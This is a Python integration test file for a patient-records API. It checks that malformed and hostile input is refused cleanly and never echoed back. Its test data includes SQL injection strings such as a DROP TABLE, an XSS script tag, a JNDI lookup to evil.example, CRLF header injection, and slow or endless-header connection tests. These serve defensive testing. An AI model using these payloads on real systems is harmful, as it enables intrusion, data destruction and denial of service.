"""Input that means harm or makes no sense: each is a problem of its own, never a 500, and never echoed."""

import contextlib
import http.client
import json
import re
import socket
import time
import uuid
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from biospark_api.documents import MAX_DEPTH
from tests.api.service import Service
from tests.api.test_patients import PATIENTS, ada, created

pytestmark = pytest.mark.integration

JSON = {"Content-Type": "application/json"}


@pytest.fixture
def client(service: Service) -> httpx.Client:
    return service.as_role("admin")


def _is_problem(answer: httpx.Response, *statuses: int) -> dict[str, Any]:
    assert answer.status_code in statuses, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    problem: dict[str, Any] = answer.json()
    assert problem["status"] == answer.status_code
    return problem


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("first_name", 1),
        ("first_name", None),
        ("first_name", ["Ada"]),
        ("first_name", ""),
        ("first_name", "   "),
        ("first_name", "x" * 101),
        ("first_name", "A\x00da"),
        ("first_name", "A\nda"),
        ("first_name", "A\x7fda"),
        ("last_name", {}),
        ("date_of_birth", "1899-12-31"),
        ("date_of_birth", "9999-12-31"),
        ("date_of_birth", "10000-01-01"),
        ("date_of_birth", "0000-00-00"),
        ("date_of_birth", "2023-02-29"),
        ("date_of_birth", "yesterday"),
        ("date_of_birth", 10**20),
        ("date_of_birth", -(10**20)),
        ("date_of_birth", 0),
        ("date_of_birth", "0"),
        ("date_of_birth", None),
        ("email", "nobody"),
        ("email", "a@b"),
        ("email", "a b@example.org"),
        ("email", "a@example.org\x00"),
        ("email", "a@example.org\r\nBcc: all@example.org"),
        ("email", f"{'x' * 65}@example.org"),
        ("email", f"x@{'y' * 64}.org"),
        ("email", 5),
        ("phone", "x"),
        ("phone", "1" * 21),
        ("phone", 5551234),
    ],
    ids=repr,
)
def test_field_of_a_patient_that_cannot_be_is_named_and_not_repeated(
    client: httpx.Client, field: str, value: Any
) -> None:
    answer = client.post(PATIENTS, content=json.dumps(ada(**{field: value})), headers=JSON)
    problem = _is_problem(answer, 422)
    assert [fault["pointer"] for fault in problem["errors"]] == [f"#/{field}"]
    if isinstance(value, str) and len(value.strip()) > 3:
        assert value not in answer.text


def test_missing_and_unknown_members_are_told_without_the_names_of_the_unknown(client: httpx.Client) -> None:
    problem = _is_problem(client.post(PATIENTS, json={"hunter2 Jane": 1, "is_admin": True, "id": "x"}), 422)
    by_pointer = {fault["pointer"]: fault["detail"] for fault in problem["errors"]}
    assert by_pointer.keys() == {"#", "#/first_name", "#/last_name", "#/date_of_birth"}
    assert by_pointer["#"].startswith("An unknown member is given; known are date_of_birth, email, first_name")
    assert "hunter2" not in json.dumps(problem)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"null",
        b"[]",
        b'"text"',
        b"1",
        b"{",
        b'{"first_name":}',
        b"\xff\xfe",
        b'{"first_name": "\xff"}',
        b'{"first_name": "\xed\xa0\x80"}',
        b'{"first_name": "\\ud800"}',
        b"\x00",
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b'{"first_name": ' + b"9" * 10_000 + b"}",
        b"first_name=Ada",
        b"\xef\xbb\xbf{}",
    ],
    ids=lambda body: repr(body[:20]),
)
def test_body_that_is_no_object_is_refused(client: httpx.Client, body: bytes) -> None:
    _is_problem(client.post(PATIENTS, content=body, headers=JSON), 422)


@pytest.mark.parametrize("media_type", ["", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
def test_body_of_another_type_is_refused(client: httpx.Client, media_type: str) -> None:
    headers = {"Content-Type": media_type}
    _is_problem(client.post(PATIENTS, content=json.dumps(ada()), headers=headers), 415)


@pytest.mark.parametrize("media_type", ["application/json; charset=utf-8", "APPLICATION/JSON"])
def test_type_of_the_body_may_be_written_in_other_ways(client: httpx.Client, media_type: str) -> None:
    headers = {"Content-Type": media_type}
    assert client.post(PATIENTS, content=json.dumps(ada()), headers=headers).status_code == 201


@pytest.mark.parametrize(
    "query",
    [
        "limit=-1",
        "limit=0",
        "limit=201",
        "limit=1000000000",
        "limit=1e9",
        "limit=x",
        "limit=",
        "limit=1&limit=2",
        "limit=99999999999999999999999999",
        "offset=-1",
        "offset=1000001",
        "offset=1000000000",
        "offset=' OR 1=1",
        "cursor=x",
        "cursor=%00",
        "cursor=WyIyMDI1IiwgIngiXQ",
        "cursor=W1tbW1tbW1tb",
        "count=all",
        "limt=5",
        "email=jane%40example.org",
        "offset=%F0%9F%A6%8A",
        "limit=%FF",
    ],
)
def test_query_that_makes_no_sense_is_refused(client: httpx.Client, query: str) -> None:
    problem = _is_problem(client.get(f"{PATIENTS}?{query}"), 422)
    assert "jane" not in json.dumps(problem)


def test_cursor_and_offset_together_are_refused(client: httpx.Client) -> None:
    created(client)
    created(client)
    cursor = client.get(PATIENTS, params={"limit": 1}).headers["link"].partition("cursor=")[2].partition(">")[0]
    assert client.get(PATIENTS, params={"cursor": cursor}).status_code == 200
    _is_problem(client.get(PATIENTS, params={"cursor": cursor, "offset": 5}), 422)


@pytest.mark.parametrize("identifier", ["1", "x", "%00", "..", "' OR '1'='1", "00000000-0000-0000-0000-00000000000g"])
def test_id_that_is_none_is_not_found(client: httpx.Client, identifier: str) -> None:
    for path in (PATIENTS, "/api/v1/agents", "/api/v1/users"):
        answer = client.get(f"{path}/{identifier}")
        if ".." not in identifier:
            _is_problem(answer, 404)


INJECTIONS = (
    "'; DROP TABLE patients; --",
    "' OR '1'='1",
    "1); DELETE FROM users WHERE (1=1",
    "$1",
    "%s %(id)s %%",
    "\\'; SELECT pg_sleep(10); --",
    "{{7*7}} ${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
)


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_is_stored_as_the_text_that_it_is(client: httpx.Client, text: str) -> None:
    patient = created(client, first_name=text, last_name=text)
    url = f"{PATIENTS}/{patient['id']}"
    assert client.get(url).json()["first_name"] == text
    assert client.patch(url, json={"last_name": text + "x"}).json()["last_name"] == text + "x"
    found = client.post(f"{PATIENTS}/_search", json={"name": text}).json()["items"]
    assert patient["id"] in [item["id"] for item in found]
    record = {"record_type": "note", "data": {text: [text]}, "recorded_at": "2020-01-01T00:00:00Z"}
    assert client.post(f"{url}/records", json=record).json()["data"] == {text: [text]}
    search = client.post(f"{url}/records/_search", json={"data": {text: [text]}}).json()["items"]
    assert len(search) == 1
    key = {"Idempotency-Key": text}
    assert client.post(PATIENTS, json=ada(), headers=key).status_code in {201, 422}


@pytest.mark.parametrize("text", INJECTIONS)
def test_sql_in_filters_finds_nothing(client: httpx.Client, text: str) -> None:
    patient = created(client)["id"]
    assert client.get("/api/v1/agents", params={"type": text}).status_code == 422
    assert client.get("/api/v1/audit", params={"action": text}).status_code == 422
    assert client.get("/api/v1/audit", params={"actor": text}).status_code == 422
    assert client.get(f"{PATIENTS}/{patient}/records", params={"type": text}).status_code == 422
    login = {"email": text, "password": text}
    assert client.post("/api/v1/auth/login", json=login).status_code == 422


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth - 1):
        value = {"a": value}
    return value


def test_json_is_stored_to_a_depth_and_refused_beyond(client: httpx.Client) -> None:
    url = f"{PATIENTS}/{created(client)['id']}/records"
    record = {"record_type": "note", "recorded_at": "2020-01-01T00:00:00Z"}
    deepest = client.post(url, json=record | {"data": _nested(MAX_DEPTH)})
    assert (deepest.status_code, deepest.json()["data"]) == (201, _nested(MAX_DEPTH))
    for depth in (MAX_DEPTH + 1, 150, 250):
        _is_problem(client.post(url, json=record | {"data": _nested(depth)}), 422)
    lists: Any = []
    for _ in range(100):
        lists = [lists]
    _is_problem(client.post(url, json=record | {"data": {"a": lists}}), 422)
    _is_problem(client.post(f"{url}/_search", json={"data": _nested(MAX_DEPTH + 1)}), 422)
    far = '{"record_type":"note","recorded_at":"2020-01-01T00:00:00Z","data":' + '{"a":' * 50_000 + "1" + "}" * 50_001
    _is_problem(client.post(url, content=far, headers=JSON), 422)


@pytest.mark.parametrize(
    "data",
    ['{"a": "\\u0000"}', '{"\\u0000": 1}', '{"a": NaN}', '{"a": Infinity}', '{"a": 1e999}', "[]", "null", '"x"'],
)
def test_json_that_cannot_be_stored_is_refused(client: httpx.Client, data: str) -> None:
    url = f"{PATIENTS}/{created(client)['id']}/records"
    body = f'{{"record_type": "note", "recorded_at": "2020-01-01T00:00:00Z", "data": {data}}}'
    problem = _is_problem(client.post(url, content=body, headers=JSON), 422)
    assert problem["errors"][0]["pointer"].startswith("#")


@pytest.mark.parametrize(
    "moment",
    [
        "2020-01-01T00:00:00",
        "2020-01-01",
        "1899-12-31T23:59:59Z",
        "9999-12-31T23:59:59-14:00",
        "0001-01-01T00:00:00+14:00",
        "2999-01-01T00:00:00Z",
        "2020-13-01T00:00:00Z",
        "now",
        "1577836800",
        0,
        None,
        10**18,
    ],
)
def test_moment_that_cannot_be_is_refused(client: httpx.Client, moment: Any) -> None:
    url = f"{PATIENTS}/{created(client)['id']}/records"
    body = {"record_type": "note", "data": {}, "recorded_at": moment}
    problem = _is_problem(client.post(url, json=body), 422)
    assert problem["errors"][0]["pointer"] == "#/recorded_at"


@pytest.mark.parametrize("span", ["2024", "2024-01", "2024-01-02"])
def test_date_without_a_time_is_refused_with_what_to_write(client: httpx.Client, span: str) -> None:
    url = f"{PATIENTS}/{created(client)['id']}/records"
    body = {"record_type": "condition", "data": {"onsetDateTime": span}, "recorded_at": span}
    (fault,) = _is_problem(client.post(url, json=body), 422)["errors"]
    assert fault["pointer"] == "#/recorded_at"
    assert "write where the day, month or year begins, such as 2024-01-02T00:00:00Z" in fault["detail"]
    (fault,) = _is_problem(client.get(url, params={"since": span}), 422)["errors"]
    assert "2024-01-02T00:00:00Z" in fault["detail"]
    stored = client.post(url, json=body | {"recorded_at": f"{span}{'-01-01'[len(span) - 4 :]}T00:00:00Z"})
    assert (stored.status_code, stored.json()["data"]) == (201, body["data"])


def test_moment_of_another_form_is_refused_with_one_of_the_right_form(client: httpx.Client) -> None:
    url = f"{PATIENTS}/{created(client)['id']}/records"
    for moment in ("2024-01-02T10:30:00", "2024-01-02T10:30Z", 1704191400):
        body = {"record_type": "note", "data": {}, "recorded_at": moment}
        (fault,) = _is_problem(client.post(url, json=body), 422)["errors"]
        assert fault["detail"] == "Input should be a moment with its offset from UTC, such as 2024-01-02T10:30:00Z"


def test_huge_body_is_refused_before_it_is_read(client: httpx.Client) -> None:
    _is_problem(client.post(PATIENTS, content=b"x" * 1_048_577, headers=JSON), 413)

    def stream() -> Any:
        for _ in range(2000):
            yield b" " * 1024

    # Closed while the rest was still on its way, the answer may be lost.
    with contextlib.suppress(httpx.WriteError, httpx.ReadError):
        _is_problem(client.post(PATIENTS, content=stream(), headers=JSON), 413)


def test_slow_body_is_given_up(start: Callable[..., Service]) -> None:
    service = start(body_seconds=0.5)
    token = service.token_of("admin")
    head = (
        f"POST {PATIENTS} HTTP/1.1\r\nHost: t\r\nAuthorization: Bearer {token}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as connection:
        connection.sendall(head.encode() + b'{"first_name"')
        with connection.makefile("rb") as answer:
            received = answer.read()
    assert received.startswith(b"HTTP/1.1 408 ")
    assert b"application/problem+json" in received
    assert b"connection: close" in received.lower()


def test_slow_head_is_given_up(start: Callable[..., Service]) -> None:
    service = start(head_seconds=0.5)
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: ")
        assert connection.recv(1000) == b""
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as silent:
        assert silent.recv(1000) == b""


@pytest.mark.parametrize("protocol", ["h2c", "websocket"])
def test_offer_of_another_protocol_changes_nothing(service: Service, client: httpx.Client, protocol: str) -> None:
    body = json.dumps(ada()).encode()
    head = (
        f"POST {PATIENTS} HTTP/1.1\r\nHost: t\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: {protocol}\r\n"
        f"HTTP2-Settings: AAEAAEAAAAIAAAABAAMAAABkAAQBAAAAAAUAAEAA\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {service.token_of('admin')}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as connection:
        connection.sendall(head.encode() + body)
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: t\r\nConnection: close\r\n\r\n")
        with connection.makefile("rb") as answer:
            received = answer.read()
    assert re.findall(rb"HTTP/1.1 (\d+) ", received) == [b"201", b"200"]


def test_endless_head_is_refused(service: Service) -> None:
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as connection:
        connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: t\r\nX-Endless: ")
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            for _ in range(10_000):
                connection.sendall(b"x" * 10_000)
            raise AssertionError("100 MB of a header were taken")
        # Closed while the rest was still on its way, the answer may be lost.
        with contextlib.suppress(ConnectionResetError):
            assert connection.recv(2000).startswith(b"HTTP/1.1 431 ")
    assert service.client().get("/healthz").status_code == 200


def test_large_head_is_read(service: Service) -> None:
    assert service.client().get("/healthz", headers={"X-Large": "x" * 30_000}).status_code == 200


def test_client_that_hangs_up_within_its_body_is_no_fault_of_the_service(start: Callable[..., Service]) -> None:
    service = start()
    head = f"POST /api/v1/auth/login HTTP/1.1\r\nHost: t\r\nContent-Type: {JSON['Content-Type']}\r\n"
    with socket.create_connection(("127.0.0.1", service.ports["api"]), timeout=20) as connection:
        connection.sendall(head.encode() + b'Content-Length: 1000\r\n\r\n{"email"')
    record = service.await_record("request", route="/api/v1/auth/login")
    assert record["status"] == "aborted"
    assert {record["level"] for record in service.records()} == {"INFO"}


def test_connection_that_was_used_stays_open_between_requests(start: Callable[..., Service]) -> None:
    service = start(head_seconds=0.3)
    with contextlib.closing(http.client.HTTPConnection("127.0.0.1", service.ports["api"], timeout=20)) as connection:
        connection.connect()
        used = connection.sock
        for _ in range(2):
            connection.request("GET", "/healthz")
            answer = connection.getresponse()
            assert (answer.status, json.loads(answer.read())) == (200, {"status": "alive"})
            time.sleep(0.6)  # longer than a head may take: idle is not slow
        assert connection.sock is used  # http.client would have opened another one without a word


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "DELETE", "PUT", "BREW"])
def test_method_that_is_not_there_is_a_problem(service: Service, method: str) -> None:
    answer = service.client().request(method, PATIENTS)
    assert answer.status_code in {400, 405}
    if answer.status_code == 405:
        assert answer.headers["allow"] == "GET, HEAD, POST"


def test_nothing_of_all_this_was_a_fault_of_the_service(service: Service, client: httpx.Client) -> None:
    wanted = f"hostile-{uuid.uuid4().hex}"
    client.get(PATIENTS, headers={"X-Request-ID": wanted})
    service.await_true(lambda: any(record.get("request_id") == wanted for record in service.records()))
    assert [record for record in service.records() if record["level"] in {"ERROR", "CRITICAL"}] == []
